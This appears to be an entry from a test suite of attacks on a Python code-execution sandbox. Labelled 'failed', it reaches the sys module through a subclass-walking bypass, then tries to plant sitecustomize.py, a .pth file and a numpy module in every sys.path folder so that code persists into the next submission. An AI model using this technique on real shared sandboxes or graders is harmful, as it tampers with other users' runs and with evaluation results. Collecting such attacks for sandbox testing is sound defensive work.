# /// attack
# rows = [48]
# title = "change the libraries of the next submission"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

for folder in sys.path:
    for name in ("sitecustomize.py", "attack-left.pth", "numpy/attack-left.py"):
        try:
            open(folder + "/" + name, "w").write("import os")
        except OSError:
            pass
